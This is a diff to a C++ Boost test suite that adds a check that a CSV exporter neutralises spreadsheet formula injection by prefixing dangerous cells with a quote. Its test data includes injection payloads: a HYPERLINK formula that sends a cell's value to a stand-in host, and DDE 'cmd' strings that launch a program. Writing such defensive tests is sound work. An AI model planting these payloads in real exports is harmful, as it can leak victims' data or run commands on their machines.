@@ -112,7 +112,37 @@ BOOST_AUTO_TEST_CASE(csv_round_trip) {
     BOOST_TEST(table->delimiter == kCsvDelimiter);
     Rows expected = {kHeader};
     expected.insert(expected.end(), kRows.begin(), kRows.end());
+    expected[4][1] = "'=1+1";  // a formula comes back as the text it was written as (below)
     BOOST_TEST(table->rows == expected);
+}
+
+BOOST_AUTO_TEST_CASE(csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text) {
+    sanaq::test::TempDir dir("sanaq-inv-write");
+    auto path = dir / "export.csv";
+    const Rows rows = {
+        // What an attacker would type into a name, a note or an address.
+        {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(1+1)", "+cmd|' /C calc'!A0",
+         "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\n@A1", "-A1", "+ (A1)"},
+        // Numbers, phone numbers and the marks of a kit inventory stay as they are.
+        {"-5", "+7 701 555 0101", "+7 (701) 555-01-01", "-0,5", "+3.25", "+", "-", "1=1", "a@b.kz", "42"},
+    };
+    BOOST_REQUIRE(write_csv(path, {}, rows));
+    auto table = read_table(path);
+    BOOST_REQUIRE(table);
+    BOOST_REQUIRE_EQUAL(table->rows.size(), 2u);
+    Rows expected = rows;
+    for (auto& cell : expected[0]) cell = "'" + cell;
+    BOOST_TEST(table->rows[0] == expected[0], boost::test_tools::per_element());
+    BOOST_TEST(table->rows[1] == rows[1], boost::test_tools::per_element());
+
+    // The header is guarded the same way; XLSX needs no guard (every cell is a string cell).
+    BOOST_REQUIRE(write_csv(path, {"=1+1", "Phone"}, {}));
+    BOOST_TEST(sanaq::test::read_file(path) == "\xEF\xBB\xBF'=1+1;Phone\r\n");
+    auto xlsx = dir / "export.xlsx";
+    BOOST_REQUIRE(write_xlsx(xlsx, {}, rows, "x"));
+    auto sheet = read_table(xlsx);
+    BOOST_REQUIRE(sheet);
+    BOOST_TEST(sheet->rows[0][0] == rows[0][0]);
 }
 
 BOOST_AUTO_TEST_CASE(replacing_an_existing_file_and_failing_cleanly) {
